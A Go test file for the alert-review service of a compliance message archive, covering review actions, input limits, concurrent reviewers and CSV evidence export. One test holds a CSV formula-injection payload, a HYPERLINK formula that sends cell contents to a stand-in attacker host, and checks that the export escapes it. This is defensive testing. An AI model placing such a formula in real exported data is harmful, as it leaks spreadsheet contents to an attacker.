package review_test

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/wxarchive/wxarchive/archive"
	"github.com/wxarchive/wxarchive/ingest"
	"github.com/wxarchive/wxarchive/internal/archivetest"
	"github.com/wxarchive/wxarchive/journal"
	"github.com/wxarchive/wxarchive/repo"
	"github.com/wxarchive/wxarchive/review"
	"github.com/wxarchive/wxarchive/store"
	"github.com/wxarchive/wxarchive/supervise"
	"github.com/wxarchive/wxarchive/verify"
)

// setup archives messages that raise alerts under the default pack.
func setup(t *testing.T) (*repo.Repo, *review.Service, []uint64) {
	t.Helper()
	ctx := context.Background()
	r := archivetest.New(t)
	var items []ingest.Item
	for i, text := range []string{"这个产品保本保收益", "加我私人微信", "我要投诉", "稳赚不赔"} {
		m := &archive.Message{Source: "t:1", SourceID: string(rune('a' + i)), SourceType: "text", Kind: archive.KindText, Action: archive.ActionSend,
			SentAt: archive.MillisTime(1700000000000), Conversation: "direct:wmC|zw", ConversationKind: archive.ConversationDirect,
			Sender: "zw", Recipients: []string{"wmC"}, Direction: archive.DirectionOutbound, Text: text,
			Participants: []archive.Participant{{ID: "zw", Kind: archive.ParticipantEmployee}, {ID: "wmC", Kind: archive.ParticipantExternal}}}
		items = append(items, ingest.Item{Source: "t:1", Raw: []byte(text), Message: m})
	}
	if _, err := r.Engine.Archive(ctx, "t", items); err != nil {
		t.Fatal(err)
	}
	if _, err := (&supervise.Supervisor{Engine: r.Engine, Store: r.Store, Records: r.Records}).CatchUp(ctx); err != nil {
		t.Fatal(err)
	}
	var ids []uint64
	r.Store.Alerts(ctx, 0, "", 0, func(a store.AlertRow) error { ids = append(ids, a.JournalIndex); return nil })
	if len(ids) != 4 {
		t.Fatalf("%d alerts, want 4", len(ids))
	}
	return r, &review.Service{Engine: r.Engine, Store: r.Store, Principals: []string{"carol"}}, ids
}

func TestReviewWorkflow(t *testing.T) {
	ctx := context.Background()
	r, s, ids := setup(t)
	do := func(a review.Action) error { _, err := s.Do(ctx, a); return err }
	before, _ := r.Store.Head(ctx)

	// Refusals write nothing.
	for _, tc := range []struct {
		a    review.Action
		want string
	}{
		{review.Action{Action: review.Close, Alerts: ids[:1], Actor: "cli:alice"}, "closing needs a disposition"},
		{review.Action{Action: review.Close, Alerts: ids[:1], Actor: "cli:alice", Disposition: "fine"}, `"fine": want no_issue`},
		{review.Action{Action: review.Close, Alerts: ids[:1], Actor: "cli:alice", Disposition: review.Violation}, "remediation note"},
		{review.Action{Action: review.Close, Alerts: ids[:2], Actor: "cli:alice", Disposition: review.NoIssue}, "needs a reason"},
		{review.Action{Action: review.Comment, Alerts: ids[:1], Actor: "cli:alice"}, "comment needs a note"},
		{review.Action{Action: review.Claim, Alerts: []uint64{999}, Actor: "cli:alice"}, "alert 999: no such alert"},
		{review.Action{Action: review.Reopen, Alerts: ids[:1], Actor: "cli:alice"}, "not closed"},
		{review.Action{Action: "approve", Alerts: ids[:1], Actor: "cli:alice"}, `"approve"`},
		// Over the documented limits (docs/FORMAT.md, "Limits"): the note of
		// issue 12 (300,000 '<', escaped six-fold) once made the journal
		// unreadable for good.
		{review.Action{Action: review.Comment, Alerts: ids[:1], Actor: "cli:alice", Note: strings.Repeat("<", 300_000)}, "note: 300000 bytes, over the limit of 16384"},
		{review.Action{Action: review.Comment, Alerts: ids[:1], Actor: "cli:alice", Note: strings.Repeat("注", archive.MaxNoteBytes/3+1)}, "note: 16386 bytes"},
		{review.Action{Action: review.Comment, Alerts: ids[:1], Actor: "cli:alice", Note: "bad \xff"}, "note: not valid UTF-8"},
		{review.Action{Action: review.Close, Alerts: ids[:2], Actor: "cli:alice", Disposition: review.NoIssue, Reason: strings.Repeat("r", archive.MaxReasonBytes+1)}, "reason: 2049 bytes"},
		{review.Action{Action: review.Assign, Alerts: ids[:1], Actor: "cli:alice", Assignee: strings.Repeat("b", archive.MaxIDBytes+1)}, "assignee: 257 bytes"},
		{review.Action{Action: review.Assign, Alerts: ids[:1], Actor: "cli:alice", Assignee: "bob\nmallory"}, "assignee: control character"},
		{review.Action{Action: review.Claim, Alerts: make([]uint64, archive.MaxReviewAlerts+1), Actor: "cli:alice", Reason: "bulk"}, "1001 alerts in one action"},
		{review.Action{Action: review.Claim, Alerts: ids[:1], Actor: "cli:" + strings.Repeat("a", 300)}, "actor: 304 bytes"},
	} {
		var re *review.Error
		if err := do(tc.a); !errors.As(err, &re) || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%+v: %v, want %q", tc.a, err, tc.want)
		}
	}
	if h, _ := r.Store.Head(ctx); h.JournalSize != before.JournalSize {
		t.Fatalf("refused actions wrote %d events", h.JournalSize-before.JournalSize)
	}

	// Alert 0: viewed only. Alert 1: claimed, commented, closed false
	// positive. Alert 2: escalated; alice cannot close it, carol (a
	// principal) can. Alert 3: closed in bulk with a reason, reopened.
	steps := []review.Action{
		{Action: review.View, Alerts: ids[:1], Actor: "cli:alice"},
		{Action: review.Claim, Alerts: ids[1:2], Actor: "cli:alice"},
		{Action: review.Comment, Alerts: ids[1:2], Actor: "cli:alice", Note: "client's own words, quoting a competitor"},
		{Action: review.Close, Alerts: ids[1:2], Actor: "cli:alice", Disposition: review.FalsePositive},
		{Action: review.Escalate, Alerts: ids[2:3], Actor: "cli:alice", Note: "complaint about mis-selling"},
	}
	for _, a := range steps {
		if err := do(a); err != nil {
			t.Fatalf("%+v: %v", a, err)
		}
	}
	if err := do(review.Action{Action: review.Close, Alerts: ids[2:3], Actor: "cli:alice", Disposition: review.NoIssue}); err == nil || !strings.Contains(err.Error(), "only a principal") {
		t.Fatalf("non-principal closes an escalation: %v", err)
	}
	for _, a := range []review.Action{
		{Action: review.Close, Alerts: ids[2:3], Actor: "cli:carol", Disposition: review.Violation, Note: "client refunded, adviser retrained"},
		{Action: review.Close, Alerts: ids[3:4], Actor: "cli:alice", Disposition: review.NoIssue, Reason: "one by one is the same"},
	} {
		if err := do(a); err != nil {
			t.Fatalf("%+v: %v", a, err)
		}
	}
	if err := do(review.Action{Action: review.Claim, Alerts: ids[3:4], Actor: "cli:bob"}); err == nil || !strings.Contains(err.Error(), "is closed") {
		t.Fatalf("claim a closed alert: %v", err)
	}
	if err := do(review.Action{Action: review.Reopen, Alerts: ids[3:4], Actor: "cli:carol"}); err != nil {
		t.Fatal(err)
	}

	// The evidence report.
	rows, err := review.Evidence(ctx, r.Store, time.Unix(0, 0), time.Now().Add(time.Hour), time.Now(), time.UTC, review.ByRaised)
	if err != nil {
		t.Fatal(err)
	}
	got := map[uint64]review.EvidenceRow{}
	for _, row := range rows {
		got[row.Alert] = row
	}
	if e := got[ids[0]]; e.Reviewed || !e.ViewedOnly || e.Status != review.StatusOpen {
		t.Errorf("viewed-only alert: %+v", e)
	}
	if e := got[ids[1]]; !e.Reviewed || e.Disposition != review.FalsePositive || e.Reviewer != "cli:alice" || e.Actions != 3 {
		t.Errorf("closed alert: %+v", e)
	}
	if e := got[ids[2]]; !e.Reviewed || !e.Escalated || e.Reviewer != "cli:carol" || e.Disposition != review.Violation || e.Note == "" {
		t.Errorf("escalated alert: %+v", e)
	}
	if e := got[ids[3]]; e.Reviewed || e.Status != review.StatusOpen || e.Actions != 2 {
		t.Errorf("reopened alert: %+v", e)
	}
	// Every action is in the journal, with the reviewer, the message hash
	// and the policy version.
	n := 0
	h, _ := r.Store.Head(ctx)
	r.Store.Leaves(ctx, before.JournalSize, h.JournalSize, func(idx uint64, _, leaf []byte) error {
		ev, err := journal.ParseLeaf(idx, leaf)
		if err != nil || ev.Type != archive.EventReviewAction {
			t.Fatalf("journal %d: %v %v", idx, ev, err)
		}
		var p archive.ReviewEvent
		ev.DecodePayload(&p)
		if ev.Actor == "" || len(p.Items) == 0 || p.Items[0].RecordHash.IsZero() || p.Items[0].PolicyVersion != 1 {
			t.Fatalf("review event %+v by %q", p, ev.Actor)
		}
		n++
		return nil
	})
	if n != 8 {
		t.Fatalf("%d review events, want 8", n)
	}
	rep, err := verify.Run(ctx, r, verify.Options{Scratch: archivetest.Engines().Scratch})
	if err != nil || !rep.OK {
		t.Fatalf("verify: %v %+v", err, rep)
	}
}

// TestEvidenceCSVInjection: a note a spreadsheet would run as a formula is
// written as text.
func TestEvidenceCSVInjection(t *testing.T) {
	var b strings.Builder
	rows := []review.EvidenceRow{{Alert: 7, Note: `=HYPERLINK("http://evil.example/?"&A1)`, Reviewer: "@bob", Policy: "-p", Rule: "+r", Disposition: "violation"}}
	if err := review.WriteEvidenceCSV(&b, rows); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(b.String()), "\n")
	if len(lines) != 2 || !strings.HasPrefix(lines[0], "alert,serial,") {
		t.Fatalf("csv:\n%s", b.String())
	}
	for _, cell := range []string{`"'=HYPERLINK(""http://evil.example/?""&A1)"`, "'@bob", "'-p", "'+r", ",violation,"} {
		if !strings.Contains(lines[1], cell) {
			t.Errorf("row %s lacks %s", lines[1], cell)
		}
	}
}

// TestConcurrentReviewers: reviewers acting on one alert at the same time
// each decide from the state they read; only one decision per state
// commits, the others are told to look again — never two closes, never a
// close of what was escalated meanwhile. A view never conflicts.
func TestConcurrentReviewers(t *testing.T) {
	r, s, ids := setup(t)
	ctx := context.Background()
	const n = 8
	errs := make(chan error, n+2)
	start := make(chan struct{})
	var wg sync.WaitGroup
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			<-start
			_, err := s.Do(ctx, review.Action{Action: review.Close, Alerts: []uint64{ids[0]}, Actor: fmt.Sprintf("cli:r%d", i), Disposition: review.NoIssue})
			errs <- err
		}()
	}
	for range 2 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			<-start
			_, err := s.Do(ctx, review.Action{Action: review.View, Alerts: []uint64{ids[0]}, Actor: "cli:viewer"})
			errs <- err
		}()
	}
	close(start)
	wg.Wait()
	close(errs)
	ok, refused := 0, 0
	for err := range errs {
		var re *review.Error
		switch {
		case err == nil:
			ok++
		case errors.As(err, &re):
			refused++
		default:
			t.Fatalf("unexpected error: %v", err)
		}
	}
	closes := 0
	r.Store.ReviewActions(ctx, ids[0], func(a store.ReviewActionRow) error {
		if a.Action == review.Close {
			closes++
		}
		return nil
	})
	if closes != 1 || ok != 3 || refused != n-1 {
		t.Fatalf("%d closes journaled, %d actions succeeded, %d refused; want 1 close, 1 close + 2 views, %d refused", closes, ok, refused, n-1)
	}
}

// TestReviewAtLimits: values exactly at their limits are journaled, and the
// journal still reads back (the writer would refuse a leaf its reader
// cannot read).
func TestReviewAtLimits(t *testing.T) {
	ctx := context.Background()
	r, s, ids := setup(t)
	idx, err := s.Do(ctx, review.Action{Action: review.Assign, Alerts: ids[:2], Actor: "cli:" + strings.Repeat("a", 252),
		Assignee: strings.Repeat("b", archive.MaxIDBytes), Reason: strings.Repeat("<", archive.MaxReasonBytes)})
	if err != nil {
		t.Fatalf("assign at the limits: %v", err)
	}
	if _, err := s.Do(ctx, review.Action{Action: review.Comment, Alerts: ids[:1], Actor: "cli:alice", Note: strings.Repeat("<", archive.MaxNoteBytes)}); err != nil {
		t.Fatalf("a note at the limit: %v", err)
	}
	var n int
	if err := r.Store.Leaves(ctx, idx, idx+2, func(i uint64, _, leaf []byte) error {
		n++
		_, err := journal.ParseLeaf(i, leaf)
		return err
	}); err != nil || n != 2 {
		t.Fatalf("%d leaves read back, err %v", n, err)
	}
}
